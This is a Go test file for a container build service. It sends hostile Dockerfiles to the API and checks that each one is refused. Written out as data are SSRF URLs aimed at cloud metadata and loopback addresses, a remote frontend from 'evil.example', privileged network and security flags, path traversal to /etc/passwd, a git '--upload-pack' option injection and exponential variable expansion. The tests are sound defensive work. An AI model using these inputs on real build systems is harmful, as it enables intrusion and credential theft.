package main

import (
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"cooper/internal/config"
)

// Rows B41 to B69: the Dockerfile. B67 to B69, the failures that only a build finds, are in TestFailuresNameTheirCause;
// a step that fills the disk itself is tried there on a small one, so that no machine of a tester fills up.
func TestHostileDockerfiles(t *testing.T) {
	g := startGauntlet(t, func(c *config.Config) { c.BuildPids = 512 })
	g.pushBusybox()
	var trap trap
	trap.open(t)
	t.Run("text", func(t *testing.T) { g.refuses(t, textTrials()) })
	t.Run("parse", func(t *testing.T) { g.refuses(t, parseTrials()) })
	t.Run("frontends", func(t *testing.T) { g.refuses(t, frontendTrials(trap.addr)) })
	t.Run("entitlements", func(t *testing.T) { g.refuses(t, entitlementTrials()) })
	t.Run("secrets and agents", func(t *testing.T) { g.refuses(t, secretTrials()) })
	t.Run("sources", func(t *testing.T) { g.refuses(t, sourceTrials(g.host, trap.addr)) })
	t.Run("controls", func(t *testing.T) { tryDockerfileControls(t, g) })
	t.Run("only the build knows", func(t *testing.T) { tryBuildFailures(t, g) })
	require.Zero(t, trap.hits.Load(), "something was fetched that was refused")
	g.leavesNothing(t)
}

// trap is a listener that nothing may connect to.
type trap struct {
	addr string
	hits atomic.Int64
}

func (p *trap) open(t *testing.T) {
	t.Helper()
	l, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = l.Close() })
	p.addr = l.Addr().String()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			p.hits.Add(1)
			_ = c.Close()
		}
	}()
}

// textTrials are B41 to B45.
func textTrials() []trial {
	refused := func(name string, status int, code, dockerfile string, line int) trial {
		return trial{name: name, send: posting(dockerfile), status: status, code: code, field: "dockerfile", line: line}
	}
	return []trial{
		{name: "B41 missing", send: postingJSON(`{"component":"hostile"}`), status: 422, code: "DOCKERFILE_REQUIRED", field: "dockerfile"},
		{name: "B41 only others", send: postingJSON(`{}`), status: 422, code: "DOCKERFILE_REQUIRED", field: "dockerfile"},
		refused("B42 nothing", 422, "DOCKERFILE_EMPTY", "", 0),
		refused("B42 spaces", 422, "DOCKERFILE_EMPTY", " \t\r\n\n  ", 0),
		refused("B42 comments", 422, "DOCKERFILE_EMPTY", "# FROM scratch\n\n#\n", 0),
		refused("B43 only ARG", 422, "DOCKERFILE_NO_STAGE", "ARG x\n", 0),
		refused("B43 RUN first", 422, "DOCKERFILE_NO_STAGE", "ARG x\nRUN true\nFROM scratch\n", 2),
		refused("B44 1 MiB and 1", 413, "DOCKERFILE_TOO_LARGE", "FROM scratch\n"+strings.Repeat("# comment\n", 1<<20/10), 0),
		refused("B44 one line of 1 MiB", 422, "DOCKERFILE_LINE_TOO_LONG", "FROM scratch\nLABEL a="+strings.Repeat("x", 1<<20-30)+"\n", 2),
		refused("B45 UTF-16", 422, "DOCKERFILE_ENCODING", "\xff\xfeF\x00R\x00O\x00M\x00", 0),
		refused("B45 UTF-16 without a mark", 422, "DOCKERFILE_ENCODING", "F\x00R\x00O\x00M\x00", 1),
		refused("B45 c3 28", 422, "DOCKERFILE_ENCODING", "FROM scratch\nLABEL a=\xc3\x28\n", 2),
		refused("B45 NUL", 422, "DOCKERFILE_ENCODING", "FROM scratch\n# \x00\n", 2),
		{name: "B45 half a character in JSON", send: postingJSON("{\"component\":\"hostile\",\"dockerfile\":\"FROM scratch\\nLABEL a=\xc3\x28\"}"), status: 422, code: "DOCKERFILE_ENCODING", field: "dockerfile"},
	}
}

// parseTrials are B47 to B52.
func parseTrials() []trial {
	refused := func(name, code, dockerfile string, line int, says ...string) trial {
		return trial{name: name, send: posting(dockerfile), status: 422, code: code, field: "dockerfile", line: line, says: says}
	}
	stages := strings.Repeat("FROM scratch\n", 10_000)
	return []trial{
		refused("B47 FORM", "DOCKERFILE_PARSE", "FORM scratch\n", 1, "FROM"),
		refused("B47 an unknown instruction", "DOCKERFILE_PARSE", "FROM scratch\n\nRUM true\n", 3, "RUN"),
		refused("B48 a document that never ends", "DOCKERFILE_PARSE", "FROM scratch\nRUN <<EOF\ntrue\n", 2),
		refused("B48 COPY without a target", "DOCKERFILE_PARSE", "FROM scratch\nCOPY <<EOF\na\nEOF\n", 2),
		refused("B48 a document without a name", "DOCKERFILE_PARSE", "FROM scratch\nRUN <<\n", 2),
		refused("B48 an open quote", "DOCKERFILE_PARSE", "FROM scratch\nLABEL a=\"b\n", 2),
		refused("B48 an open variable", "DOCKERFILE_PARSE", "FROM scratch\nENV A=${B\n", 2),
		refused("B48 a flag that is none", "DOCKERFILE_PARSE", "FROM scratch\nRUN --nosuch=1 true\n", 2),
		refused("B51 10,000 stages", "DOCKERFILE_TOO_COMPLEX", stages, 0),
		refused("B51 100,000 instructions", "DOCKERFILE_TOO_COMPLEX", "FROM scratch\n"+strings.Repeat("USER 1\n", 100_000), 0),
		refused("B51 variables that double", "DOCKERFILE_TOO_COMPLEX", doubling(), 0),
		refused("B51 documents in documents", "DOCKERFILE_TOO_COMPLEX", "FROM scratch\n"+strings.Repeat("RUN "+strings.Repeat("<<A ", 60)+"\n", 1000), 0),
		{name: "B52 no such stage", send: posting("FROM scratch AS build\nFROM scratch AS test\n", "target", "biuld"), status: 422, code: "TARGET_NOT_FOUND", field: "target", says: []string{"build", "test"}},
		{name: "B52 no stage has a name", send: posting(tiny, "target", "x"), status: 422, code: "TARGET_NOT_FOUND", field: "target"},
	}
}

// doubling makes a value of 2^64 characters out of 64 lines.
func doubling() string {
	var b strings.Builder
	b.WriteString("FROM scratch\nENV A0=aa\n")
	for i := range 64 {
		fmt.Fprintf(&b, "ENV A%d=$A%d$A%d\n", i+1, i, i)
	}
	return b.String()
}

// frontendTrials are B53 and B54 (and T9, at the API). The frontend would come from where nothing may connect to.
func frontendTrials(evil string) []trial {
	var out []trial
	for name, head := range map[string]string{
		"plain":              "# syntax=%s/fe\n",
		"spaces":             "#   SYNTAX   =   %s/fe:1\n",
		"slashes":            "// syntax=%s/fe\n",
		"behind a directive": "# escape=`\n# syntax=%s/fe\n",
		"behind a check":     "# check=skip=all\n# syntax=%s/fe\n",
		"shebang":            "#!/usr/bin/env x\n# syntax=%s/fe\n",
		"byte order mark":    "\ufeff# syntax=%s/fe\n",
		"two marks":          "\ufeff\ufeff# syntax=%s/fe\n",
		"CRLF":               "# syntax=%s/fe\r\n",
		"indented":           "  # syntax=%s/fe\n",
		"behind ours":        "# syntax=docker/dockerfile:1\n# syntax=%s/fe\n",
		"almost ours":        "# syntax=%s/docker/dockerfile:1\n",
		"with arguments":     "# syntax=%s/fe docker/dockerfile:1\n",
	} {
		out = append(out, trial{name: "B53 " + name, send: posting(fmt.Sprintf(head, evil) + tiny), status: 403, code: "FRONTEND_NOT_ALLOWED", field: "dockerfile"})
	}
	for name, whole := range map[string]string{"JSON": `{"syntax":"%s/fe"}`, "JSON behind a shebang": "#!/x\n" + `{"syntax":"%s/fe","stages":[]}`} {
		out = append(out, trial{name: "B53 " + name, send: posting(fmt.Sprintf(whole, evil)), status: 403, code: "FRONTEND_NOT_ALLOWED", field: "dockerfile"})
	}
	out = append(out, trial{name: "B53 evil.example", send: posting("# syntax=evil.example/fe\n" + tiny), status: 403, code: "FRONTEND_NOT_ALLOWED", line: 1, says: []string{"docker/dockerfile"}})
	for _, value := range []string{evil + "/fe", "docker/dockerfile:1", ""} {
		out = append(out, trial{name: "B54 " + value, send: posting(tiny, "buildArg", "BUILDKIT_SYNTAX="+value), status: 403, code: "FRONTEND_NOT_ALLOWED", field: "buildArg"})
	}
	return out
}

// entitlementTrials are B56 to B58 (and T10, at the API).
func entitlementTrials() []trial {
	var out []trial
	for name, dockerfile := range map[string]string{
		"B56 insecure":            "FROM busybox\nRUN --security=insecure id\n",
		"B57 the host's network":  "FROM busybox\nRUN --network=host id\n",
		"B58 a device":            "FROM busybox\nRUN --device=vendor.com/x=y id\n",
		"B56 in a heredoc":        "FROM busybox\nRUN --security=insecure <<E\nid\nE\n",
		"B57 in lower case":       "FROM busybox\nrun --network=host id\n",
		"B57 for other images":    "FROM busybox\nONBUILD RUN --network=host id\n",
		"B56 beside a good one":   "FROM busybox\nRUN --network=none --security=insecure id\n",
		"B57 over continued line": "FROM busybox\nRUN \\\n --network=host \\\n id\n",
	} {
		out = append(out, trial{name: name, send: posting(dockerfile), status: 403, code: "ENTITLEMENT_DENIED", field: "dockerfile", line: 2})
	}
	return append(out, trial{
		name: "B57 in a stage that is not built", status: 403, code: "ENTITLEMENT_DENIED", line: 2,
		send: posting("FROM busybox AS a\nRUN --network=host id\nFROM scratch AS b\n", "target", "b"),
	})
}

// secretTrials are B59 and B60. B61 is among the form's values.
func secretTrials() []trial {
	required := "FROM busybox\nRUN --mount=type=secret,id=npm,required=true cat /run/secrets/npm\n"
	return []trial{
		{name: "B59 no secret", send: posting(required), status: 422, code: "SECRET_MISSING", line: 2, says: []string{"npm"}},
		{name: "B59 another one", send: posting(required, "secret", "nmp=x"), status: 422, code: "SECRET_MISSING", says: []string{"npm"}},
		{name: "B59 the short form", send: posting("FROM busybox\nRUN --mount=type=secret,id=npm,required true\n"), status: 422, code: "SECRET_MISSING"},
		{name: "B60 ssh", send: posting("FROM busybox\nRUN --mount=type=ssh ssh-add -l\n"), status: 422, code: "SSH_NOT_AVAILABLE", line: 2},
		{name: "B60 a source by ssh", send: posting("FROM busybox\nADD git@example.com:a/b.git /x\n"), status: 422, code: "SSH_NOT_AVAILABLE", line: 2},
	}
}

// sourceTrials are B64 to B66 as far as the check before queueing sees them.
func sourceTrials(own, evil string) []trial {
	var out []trial
	refused := func(name, code string, status int, dockerfile string, line int) {
		out = append(out, trial{name: name, send: posting(dockerfile), status: status, code: code, field: "dockerfile", line: line})
	}
	for _, url := range []string{
		"http://169.254.169.254/", "http://127.0.0.1:8080/", "http://" + own + "/api/v1/builds", "http://" + evil + "/x", "http://127.1/", "http://0x7f000001/",
		"http://2130706433/", "http://017700000001/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://[fe80::1%25lo]/", "http://localhost/",
		"http://localhost./", "http://0.0.0.0/", "http://10.0.0.1/", "http://100.64.0.1/", "http://192.168.1.1/", "http://metadata.google.internal/",
		"https://" + evil + "/r.git", "https://user:pass@10.0.0.1/x",
	} {
		refused("B64 "+url, "SOURCE_DENIED", 403, "FROM scratch\nADD "+url+" /x\n", 2)
	}
	refused("B64 in a variable", "SOURCE_DENIED", 403, "FROM scratch\nARG H=127.0.0.1\nADD http://$H:8080/ /x\n", 3)
	refused("B64 in a build arg's default", "SOURCE_DENIED", 403, "ARG H=127.0.0.1\nFROM scratch\nARG H\nADD http://${H}/ /x\n", 4)
	refused("B64 for other images", "SOURCE_DENIED", 403, "FROM scratch\nONBUILD ADD http://127.0.0.1:8080/ /x\n", 2)
	refused("B65 a folder outside", "SOURCE_INVALID", 422, "FROM scratch\nADD https://example.com/r.git#main:../../x /x\n", 2)
	refused("B65 in the query", "SOURCE_INVALID", 422, "FROM scratch\nADD https://example.com/r.git?subdir=../../x /x\n", 2)
	refused("B65 an option for a ref", "SOURCE_INVALID", 422, "FROM scratch\nADD https://example.com/r.git#--upload-pack=x /x\n", 2)
	refused("B66 localhost", "SOURCE_DENIED", 403, "FROM localhost:5000/otherproject/private\n", 1)
	refused("B66 loopback", "SOURCE_DENIED", 403, "FROM "+evil+"/otherproject/private\n", 1)
	refused("B66 copied from", "SOURCE_DENIED", 403, "FROM scratch\nCOPY --from="+evil+"/private / /\n", 2)
	refused("B66 mounted from", "SOURCE_DENIED", 403, "FROM busybox\nRUN --mount=type=bind,from="+evil+"/private,target=/x true\n", 2)
	refused("B66 in a variable", "SOURCE_DENIED", 403, "ARG R=10.0.0.1:5000\nFROM $R/private\n", 2)
	return out
}

// tryDockerfileControls are B46, B55 and B63: normal work.
func tryDockerfileControls(t *testing.T, g *gauntlet) {
	for name, dockerfile := range map[string]string{
		"B46 CRLF":                   "FROM busybox\r\nRUN echo a \\\r\n  b\r\nCOPY <<EOF /x\r\ntext\r\nEOF\r\n",
		"B46 byte order mark":        "\ufeffFROM busybox\n",
		"B46 mark and CRLF":          "\ufeff# escape=`\r\nFROM busybox\r\nRUN echo a `\r\n b\r\n",
		"B46 no newline at the end":  "FROM busybox",
		"B63 a cache with odd names": "FROM busybox\nRUN --mount=type=cache,id=../../x,target=/c touch /c/f\n",
	} {
		t.Run(name, func(t *testing.T) { g.succeeds(t, dockerfile, "component", "control") })
	}
	t.Run("B55 the built-in frontend is used", func(t *testing.T) {
		for _, head := range []string{"# syntax=docker/dockerfile:1", "#syntax=docker.io/docker/dockerfile:1.4-labs", "# syntax=docker/dockerfile:1@sha256:" + strings.Repeat("a", 64)} {
			r := g.succeeds(t, head+"\nFROM busybox\nRUN <<E\necho from-a-heredoc\nE\n", "component", "control")
			log := g.in(t).logText(r.str("buildId"))
			require.Contains(t, log, "built-in Dockerfile frontend")
			require.NotContains(t, log, "resolve image config for docker-image://docker.io/docker/dockerfile")
		}
	})
	t.Run("B63 caches are not shared between components", func(t *testing.T) {
		const dockerfile = "FROM busybox\nRUN --mount=type=cache,id=x,target=/c ls /c | grep -c evil >/n; touch /c/evil; cat /n # "
		g.succeeds(t, dockerfile+"1\n", "component", "a")
		again := g.succeeds(t, dockerfile+"2\n", "component", "a")
		require.Contains(t, g.in(t).logText(again.str("buildId")), "\n1\n", "its own cache is there")
		other := g.succeeds(t, dockerfile+"3\n", "component", "b")
		require.Contains(t, g.in(t).logText(other.str("buildId")), "\n0\n", "another component's cache is not")
	})
}

// tryBuildFailures are B62, and of B69 what TestFailuresNameTheirCause does not have.
func tryBuildFailures(t *testing.T, g *gauntlet) {
	for name, tr := range map[string]struct {
		dockerfile, code string
		line             int
	}{
		"B62 COPY from outside":     {"FROM busybox\nCOPY ../../etc/passwd /\n", "PATH_OUTSIDE_CONTEXT", 2},
		"B62 COPY an absolute path": {"FROM busybox\nCOPY /etc/passwd /\n", "COPY_SOURCE_NOT_FOUND", 2},
		"B62 mount from outside":    {"FROM busybox\nRUN --mount=type=bind,source=../../etc,target=/x cat /x/passwd\n", "PATH_OUTSIDE_CONTEXT", 2},
		"B69 a signal":              {"FROM busybox\nRUN sh -c 'kill -9 $$'; exit $?\n", "STEP_FAILED", 2},
		"B69 no such program":       {"FROM scratch\nRUN [\"/nosuch\"]\n", "STEP_FAILED", 2},
	} {
		t.Run(name, func(t *testing.T) { g.fails(t, tr.code, tr.line, tr.dockerfile, "component", "failing") })
	}
	t.Run("B69 the last lines", func(t *testing.T) {
		r := g.fails(t, "STEP_FAILED", 2, "FROM busybox\nRUN for i in $(seq 200); do echo line-$i; done; exit 3\n", "component", "failing")
		require.Contains(t, r.str("errorMessage"), "exit code 3")
		require.Contains(t, r.str("errorMessage"), "line-200")
		require.Contains(t, r.str("errorMessage"), "line-151\n")
	})
	t.Run("the next build works", func(t *testing.T) { g.succeeds(t, "FROM busybox\nRUN true\n", "component", "fine") })
}
